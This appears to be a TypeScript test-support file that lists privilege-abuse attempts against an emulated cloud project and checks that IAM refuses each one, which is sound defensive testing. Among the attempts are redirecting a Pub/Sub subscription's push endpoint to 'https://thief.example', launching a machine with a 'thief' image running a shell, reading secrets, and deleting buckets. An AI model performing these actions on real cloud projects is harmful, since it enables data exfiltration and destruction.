import { CloudError } from '#local/cloud/runtime/cloud-error.ts';
import type { Caller } from '#local/cloud/runtime/iam.ts';
import { account, accountEmail, FUNCTION_NAMES, OWNER } from '#local/lab/people.ts';
import { type Buckets, bucketsOf, topicsOf } from '#schemas/names.ts';
import { body, ZONE } from '#test/support/local/compute.ts';
import { keyAttempts } from './attempts-keys.ts';
import type { HollowLab } from './hollow-lab.ts';
import { KINDS } from './object-kinds.ts';

/** Something that a thief in the project would try. `needs`: the permissions that a refusal may name. */
export interface Attempt {
  readonly name: string;
  readonly needs: readonly string[];
  readonly go: (as: Caller) => unknown;
}

const BYTES = Buffer.from('{}');
const idOf = (n: number): string => n.toString(16).padStart(64, '0');

/** One object for each try, so that none is in the way of another. */
const onObjects = ({ store }: HollowLab, key: string, bucket: string, kinds: Readonly<Record<string, NameOf>>) =>
  Object.entries(kinds).flatMap(([kind, nameOf]): Attempt[] => {
    const attempt = (verb: string, n: number, needs: readonly string[], go: (as: Caller, at: string) => unknown) => ({
      name: `${key}: ${verb} ${kind}`,
      needs: needs.map((need) => `storage.objects.${need}`),
      go: (as: Caller) => {
        const at = nameOf(idOf(n), n);
        if (verb !== 'create') store.insert(OWNER, bucket, at, BYTES);
        return go(as, at);
      },
    });
    return [
      attempt('create', 1, ['create'], (as, at) =>
        store.insert(as, bucket, at, BYTES, { preconditions: { ifGenerationMatch: 0 } }),
      ),
      attempt('replace', 2, ['create', 'delete'], (as, at) => store.insert(as, bucket, at, BYTES)),
      attempt('read', 3, ['get'], (as, at) => store.read(as, bucket, at)),
      attempt('change', 4, ['update'], (as, at) => store.patchObject(as, bucket, at, { metadata: { due: 'x' } })),
      attempt('delete', 5, ['delete'], (as, at) => store.delete(as, bucket, at)),
    ];
  });

type NameOf = (id: string, n: number) => string;

const onBucket = ({ store }: HollowLab, key: string, bucket: string): readonly Attempt[] => [
  { name: `${key}: list`, needs: ['storage.objects.list'], go: (as) => store.list(as, bucket, { versions: true }) },
  { name: `${key}: settings`, needs: ['storage.buckets.get'], go: (as) => store.getBucket(as, bucket) },
  {
    name: `${key}: keep versions`,
    needs: ['storage.buckets.update'],
    go: (as) => store.patchBucket(as, bucket, { versioning: true }),
  },
  {
    name: `${key}: retain nothing`,
    needs: ['storage.buckets.update'],
    go: (as) => store.patchBucket(as, bucket, { retentionSeconds: 0 }),
  },
  { name: `${key}: remove`, needs: ['storage.buckets.delete'], go: (as) => store.deleteBucket(as, bucket) },
];

/** The buckets, and in each every kind of object. Shares lie where the law says that each co-signer's do. */
const onStorage = (lab: HollowLab): readonly Attempt[] => {
  const { keys: _, ...buckets } = bucketsOf(lab.law.name);
  const own = Object.entries(buckets).flatMap(([key, bucket]) => [
    ...onBucket(lab, key, bucket),
    ...onObjects(lab, key, bucket, KINDS[key as Exclude<keyof Buckets, 'keys'>]),
  ]);
  const shares = lab.law.coSigners.flatMap(({ name, shareLocation }) => [
    ...onBucket(lab, `shares of ${name}`, shareLocation.bucket),
    ...onObjects(
      lab,
      `shares of ${name}`,
      shareLocation.bucket,
      Object.fromEntries(
        Object.entries(KINDS.keys).map(([kind, nameOf]) => [kind, (id: string) => nameOf(shareLocation, id)]),
      ),
    ),
  ]);
  return [...own, ...shares];
};

const onPubSub = ({ world, law, topics }: HollowLab): readonly Attempt[] => {
  const parent = `projects/${world.project.id}`;
  const perTopic = Object.entries(topicsOf(law.name)).flatMap(([key, name]): Attempt[] => {
    const topic = `${parent}/topics/${name}`;
    return [
      {
        name: `${key}: publish`,
        needs: ['pubsub.topics.publish'],
        go: (as) => topics.publish(as, topic, [{ data: BYTES, attributes: { a: 'b' } }]),
      },
      {
        name: `${key}: subscribe`,
        needs: ['pubsub.subscriptions.create', 'pubsub.topics.attachSubscription'],
        go: (as) => topics.subscriptions.create(as, { name: `${parent}/subscriptions/spy-${name}`, topic }),
      },
      { name: `${key}: remove`, needs: ['pubsub.topics.delete'], go: (as) => topics.delete(as, topic) },
    ];
  });
  const { subscriptions } = topics;
  const names = subscriptions.list(OWNER, parent, { pageSize: 1000, pageToken: '' }).items.map(({ name }) => name);
  const perSubscription = names.flatMap((name): Attempt[] => {
    const key = `subscription ${name.slice(name.lastIndexOf('/') + 1).replace(`${law.name}-`, '')}`;
    return [
      { name: `${key}: pull`, needs: ['pubsub.subscriptions.consume'], go: (as) => subscriptions.pull(as, name, 1) },
      {
        name: `${key}: redirect`,
        needs: ['pubsub.subscriptions.update'],
        go: (as) => subscriptions.modifyPushConfig(as, name, { pushEndpoint: 'https://thief.example' }),
      },
      { name: `${key}: remove`, needs: ['pubsub.subscriptions.delete'], go: (as) => subscriptions.delete(as, name) },
    ];
  });
  return [...perTopic, ...perSubscription];
};

const ACCOUNTS = [...FUNCTION_NAMES, 'workload', 'push', 'build', 'scheduler'];
const CREATE = ['instances.create', 'disks.create', 'instances.setMetadata', 'instances.setServiceAccount'];

const onMachines = ({ world, law, instances }: HollowLab): readonly Attempt[] => {
  const subnetwork = `projects/${world.project.id}/regions/us-central1/subnetworks/${law.name}`;
  const { tags: _, ...plain } = body();
  const machine = (name: string, email = accountEmail(world, 'workload')) => ({
    ...plain,
    name,
    networkInterfaces: [{ subnetwork, nicType: 'GVNIC' }],
    serviceAccounts: [{ email, scopes: ['https://www.googleapis.com/auth/cloud-platform'] }],
  });
  const compute = (...needs: readonly string[]) => needs.map((need) => `compute.${need}`);
  const begin = compute(...CREATE, 'instances.setLabels', 'subnetworks.use');
  const honest = account(world, 'launch');
  const started = (name: string): string => {
    instances.insert(honest, ZONE, machine(name));
    return name;
  };
  return [
    ...ACCOUNTS.map((who) => ({
      name: `machine: start as ${who}`,
      needs: [...begin, 'iam.serviceAccounts.actAs'],
      go: (as: Caller) => instances.insert(as, ZONE, machine(`turn-treasury-as-${who}`, accountEmail(world, who))),
    })),
    {
      name: 'machine: start another image, with a command',
      needs: [...begin, 'iam.serviceAccounts.actAs'],
      go: (as) =>
        instances.insert(as, ZONE, {
          ...machine('turn-treasury-2'),
          metadata: {
            items: [
              { key: 'tee-image-reference', value: 'thief' },
              { key: 'tee-cmd', value: '["sh"]' },
            ],
          },
        }),
    },
    {
      name: 'machine: open to the network by a tag',
      needs: [...begin, ...compute('instances.setTags')],
      go: (as) => instances.insert(as, ZONE, { ...machine('turn-treasury-3'), tags: { items: ['open'] } }),
    },
    {
      name: 'machine: look at',
      needs: compute('instances.get'),
      go: (as) => instances.get(as, ZONE, started('turn-treasury-4')),
    },
    { name: 'machine: list', needs: compute('instances.list'), go: (as) => instances.list(as, ZONE) },
    {
      name: 'machine: delete that of a turn',
      needs: compute('instances.delete'),
      go: (as) => instances.delete(as, ZONE, started('turn-treasury-5')),
    },
    {
      name: 'machine: delete another',
      needs: compute('instances.delete'),
      go: (as) => instances.delete(as, ZONE, started('ledger-1')),
    },
    {
      name: 'machine: ask for an operation',
      needs: compute('zoneOperations.get'),
      go: (as) =>
        instances.getOperation(as, ZONE, `${instances.insert(honest, ZONE, machine('turn-treasury-6')).name}`),
    },
    {
      name: 'machine: list operations',
      needs: compute('zoneOperations.list'),
      go: (as) => instances.listOperations(as, ZONE),
    },
  ];
};

const onFunctions = ({ world }: HollowLab): readonly Attempt[] =>
  FUNCTION_NAMES.map((name) => ({
    name: `function ${name}: call`,
    needs: ['run.routes.invoke'],
    go: (as) =>
      world.iam.require(as, 'run.routes.invoke', {
        name,
        type: 'run.googleapis.com/Service',
        service: 'run.googleapis.com',
        policies: [`services/${name}`, `projects/${world.project.id}`],
      }),
  }));

const onSecrets = ({ secrets, secretNames }: HollowLab): readonly Attempt[] =>
  secretNames.map((name) => ({
    name: `secret ${name.slice(name.lastIndexOf('/') + 1).replace(/^.*(?=rpc-)/, '')}: read`,
    needs: ['secretmanager.versions.access'],
    go: (as) => secrets.access(as, name, 'latest'),
  }));

/** Everything in the project, each by every way that the local cloud has. */
export const attemptsOn = (lab: HollowLab): readonly Attempt[] => [
  ...onStorage(lab),
  ...onPubSub(lab),
  ...keyAttempts(lab),
  ...onMachines(lab),
  ...onFunctions(lab),
  ...onSecrets(lab),
];

/** `done`; or the permission that the refusal names. Throws what is neither: then the attempt itself is wrong. */
export const tried = ({ needs, go, name }: Attempt, as: Caller): string => {
  try {
    go(as);
    return DONE;
  } catch (error) {
    // Whoever may not publish is told so before anybody looks at the data.
    if (error instanceof CloudError && error.status === 'INVALID_ARGUMENT' && name.endsWith(': publish')) return DONE;
    if (!(error instanceof CloudError) || error.status !== 'PERMISSION_DENIED') throw error;
    const [, who, permission = ''] = /^(\S+) does not have (\S+) access to /.exec(error.message) ?? [];
    if (who !== as.name || !needs.includes(permission)) throw new Error(`${name}: ${error.message}`, { cause: error });
    return permission;
  }
};

export const DONE = 'done';
